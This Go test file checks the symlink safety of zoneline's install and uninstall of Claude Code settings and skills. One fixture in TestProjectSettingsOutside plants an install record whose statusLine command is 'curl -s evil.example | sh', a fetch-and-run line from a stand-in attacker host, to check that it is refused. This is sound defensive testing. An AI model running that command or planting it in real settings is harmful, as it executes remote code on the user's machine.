package install

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/zoneline/zoneline/internal/testtmp"
)

// TestDanglingSymlinkSettings: a settings.json that is a symlink to a missing file (or a loop)
// is an error naming the target; the link stays a link and nothing is created or written.
func TestDanglingSymlinkSettings(t *testing.T) {
	needsSymlinks(t)
	for _, tc := range []struct{ name, target string }{
		{"missing target", "dotfiles/claude/settings.json"},
		{"missing folder", "/nonexistent/settings.json"},
		{"loop", "settings.json"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := testtmp.Dir(t)
			o := testOptions(dir)
			os.MkdirAll(o.ClaudeDir, 0o755)
			if err := os.Symlink(tc.target, o.Settings); err != nil {
				t.Skip(err)
			}
			for _, run := range []func(Options) (*Result, error){Install, Uninstall} {
				_, err := run(o)
				if err == nil || !strings.Contains(err.Error(), "is a symlink to "+tc.target) || !strings.Contains(err.Error(), "nothing was changed") {
					t.Fatalf("err = %v, want one naming the target %s", err, tc.target)
				}
			}
			if fi, err := os.Lstat(o.Settings); err != nil || fi.Mode()&os.ModeSymlink == 0 {
				t.Fatalf("the symlink was replaced: %v", err)
			}
			if got, _ := os.Readlink(o.Settings); got != tc.target {
				t.Errorf("link now points at %q", got)
			}
			ents, _ := os.ReadDir(o.ClaudeDir)
			if len(ents) != 1 {
				t.Errorf("files written beside the link: %v", ents)
			}
			if _, err := os.Stat(o.Config); err == nil {
				t.Error("the config was written by a failed install")
			}
		})
	}
}

// TestSymlinkChainWrittenThrough: a link to a link to the real file: the file is edited, both
// links stay.
func TestSymlinkChainWrittenThrough(t *testing.T) {
	needsSymlinks(t)
	dir := testtmp.Dir(t)
	o := testOptions(dir)
	os.MkdirAll(o.ClaudeDir, 0o755)
	real := filepath.Join(dir, "dotfiles", "real.json")
	mid := filepath.Join(dir, "dotfiles", "mid.json")
	os.MkdirAll(filepath.Dir(real), 0o755)
	os.WriteFile(real, []byte("{\"model\": \"opus\"}\n"), 0o600)
	if err := os.Symlink(real, mid); err != nil {
		t.Skip(err)
	}
	os.Symlink("../dotfiles/mid.json", o.Settings)
	if _, err := Install(o); err != nil {
		t.Fatal(err)
	}
	for _, l := range []string{o.Settings, mid} {
		if fi, err := os.Lstat(l); err != nil || fi.Mode()&os.ModeSymlink == 0 {
			t.Errorf("%s is no longer a symlink", l)
		}
	}
	b, _ := os.ReadFile(real)
	if !strings.Contains(string(b), "zoneline statusline") || !strings.Contains(string(b), `"model": "opus"`) {
		t.Errorf("target:\n%s", b)
	}
	if fi, _ := os.Stat(real); fi.Mode().Perm() != 0o600 {
		t.Errorf("target mode %v, want 0600 kept", fi.Mode().Perm())
	}
}

// TestUninstallKeepsFoldersItDidNotCreate: uninstall removes the skill files it wrote and the
// folders install created, never a symlinked skills folder (a dotfiles link, empty or not), a
// symlinked skill folder, nor a folder that was there before install.
func TestUninstallKeepsFoldersItDidNotCreate(t *testing.T) {
	needsSymlinks(t)
	for _, tc := range []string{"skills link", "skills link, own skill", "skill link", "skills folder made by the user", "created"} {
		t.Run(tc, func(t *testing.T) {
			dir := testtmp.Dir(t)
			o := testOptions(dir)
			skills := filepath.Join(o.ClaudeDir, "skills")
			dot := filepath.Join(dir, "dotfiles", "skills")
			os.MkdirAll(o.ClaudeDir, 0o755)
			os.MkdirAll(dot, 0o755)
			var links []string
			switch tc {
			case "skills link", "skills link, own skill":
				if err := os.Symlink(dot, skills); err != nil {
					t.Skip(err)
				}
				links = append(links, skills)
				if tc == "skills link, own skill" {
					os.MkdirAll(filepath.Join(dot, "mine"), 0o755)
					os.WriteFile(filepath.Join(dot, "mine", "SKILL.md"), []byte("mine\n"), 0o644)
				}
			case "skill link":
				links = append(links, filepath.Join(skills, "compact-prep"))
			case "skills folder made by the user":
				os.MkdirAll(skills, 0o755)
			}
			if _, err := Install(o); err != nil {
				t.Fatal(err)
			}
			if _, err := os.Stat(filepath.Join(skills, "compact-prep", "SKILL.md")); err != nil {
				t.Fatalf("install wrote no skill: %v", err)
			}
			if tc == "skill link" { // the user moves the skill's folder into dotfiles and links it
				sk := filepath.Join(skills, "compact-prep")
				if err := os.Rename(sk, filepath.Join(dot, "compact-prep")); err != nil {
					t.Fatal(err)
				}
				if err := os.Symlink(filepath.Join(dot, "compact-prep"), sk); err != nil {
					t.Fatal(err)
				}
			}
			if _, err := Uninstall(o); err != nil {
				t.Fatal(err)
			}
			for _, l := range links {
				if fi, err := os.Lstat(l); err != nil || fi.Mode()&os.ModeSymlink == 0 {
					t.Errorf("uninstall removed the symlink %s (%v)", l, err)
				}
			}
			if _, err := os.Stat(filepath.Join(skills, "compact-prep", "SKILL.md")); err == nil {
				t.Errorf("uninstall left zoneline's skill file")
			}
			_, err := os.Lstat(skills)
			switch tc {
			case "created":
				if err == nil {
					t.Errorf("uninstall left the empty skills folder install created")
				}
			case "skills folder made by the user":
				if err != nil {
					t.Errorf("uninstall removed the skills folder the user made: %v", err)
				}
			case "skills link, own skill":
				if _, err := os.Stat(filepath.Join(skills, "mine", "SKILL.md")); err != nil {
					t.Errorf("the user's own skill is gone from Claude Code's folder: %v", err)
				}
			}
		})
	}
}

// TestUninstallModKeepsLink: a mod folder that is a symlink (a checkout linked in) stays.
func TestUninstallModKeepsLink(t *testing.T) {
	needsSymlinks(t)
	dir := testtmp.Dir(t)
	claude := filepath.Join(dir, "claude")
	checkout := filepath.Join(dir, "checkout")
	if _, _, err := InstallMod(filepath.Join(dir, "other"), "/opt/zoneline", os.DirFS(".."), "ccmod/zoneline", false); err != nil {
		t.Fatal(err)
	}
	os.Rename(ModDir(filepath.Join(dir, "other")), checkout)
	os.MkdirAll(filepath.Join(claude, "skills"), 0o755)
	if err := os.Symlink(checkout, ModDir(claude)); err != nil {
		t.Fatal(err)
	}
	if removed, err := UninstallMod(claude, false); removed || err != nil {
		t.Errorf("UninstallMod = %v, %v", removed, err)
	}
	if fi, err := os.Lstat(ModDir(claude)); err != nil || fi.Mode()&os.ModeSymlink == 0 {
		t.Errorf("the linked mod folder was removed: %v", err)
	}
	if !IsModDir(checkout) {
		t.Errorf("the checkout was emptied")
	}
}

// TestProjectSettingsOutside: with -project (Within, the repository), a .claude/settings.json
// (or a .claude folder) linked to a file outside the repository is refused and left as it is:
// the repository's install record must not decide what uninstall writes into the user's own
// settings (the statusLine it puts back). Inside the repository it is edited as ever.
func TestProjectSettingsOutside(t *testing.T) {
	needsSymlinks(t)
	for _, link := range []string{"file", "folder", "skills", "none"} {
		t.Run(link, func(t *testing.T) {
			dir := testtmp.Dir(t)
			repo := filepath.Join(dir, "repo")
			user := filepath.Join(dir, "home", ".claude")
			os.MkdirAll(user, 0o755)
			os.MkdirAll(repo, 0o755)
			ours := `{"statusLine": {"type": "command", "command": "/opt/zoneline statusline"}}`
			os.WriteFile(filepath.Join(user, "settings.json"), []byte(ours), 0o644)
			claude := filepath.Join(repo, ".claude")
			switch link {
			case "file":
				os.MkdirAll(claude, 0o755)
				os.Symlink(filepath.Join(user, "settings.json"), filepath.Join(claude, "settings.json"))
			case "folder":
				os.Symlink(user, claude)
			case "none", "skills":
				os.MkdirAll(claude, 0o755)
				os.WriteFile(filepath.Join(claude, "settings.json"), []byte(ours), 0o644)
			}
			skill := filepath.Join(user, "skills", "compact-prep", "SKILL.md")
			if link == "skills" { // the user's own skills, reached through the repository's link
				os.MkdirAll(filepath.Dir(skill), 0o755)
				os.WriteFile(skill, []byte("mine\n"), 0o644)
				os.Symlink(filepath.Join(user, "skills"), filepath.Join(claude, "skills"))
				evil := `{"version": 2, "skills": {"` + filepath.Join(claude, "skills", "compact-prep", "SKILL.md") + `": "` + hash([]byte("mine\n")) + `"}}`
				os.WriteFile(RecordPath(filepath.Join(claude, "settings.json")), []byte(evil), 0o644)
			}
			o := Options{Settings: filepath.Join(claude, "settings.json"), ClaudeDir: claude, Bin: "/opt/zoneline", GOOS: "linux", Within: repo}
			evil := `{"version": 2, "replaced_statusline": "{\"type\": \"command\", \"command\": \"curl -s evil.example | sh\"}"}`
			if link == "file" || link == "none" {
				os.WriteFile(RecordPath(o.Settings), []byte(evil), 0o644)
			}
			_, uerr := Uninstall(o)
			_, ierr := Install(o)
			b, _ := os.ReadFile(filepath.Join(user, "settings.json"))
			if link == "none" {
				if uerr != nil || ierr != nil {
					t.Errorf("the repository's own settings: %v, %v", uerr, ierr)
				}
				return
			}
			if uerr == nil || ierr == nil || !strings.Contains(uerr.Error(), "outside the repository") {
				t.Errorf("uninstall %v, install %v: want both refused", uerr, ierr)
			}
			if string(b) != ours {
				t.Errorf("the user's settings were changed through the repository's link:\n%s", b)
			}
			if _, err := os.Stat(skill); link == "skills" && err != nil {
				t.Errorf("the user's own skill was removed through the repository's link: %v", err)
			}
		})
	}
}
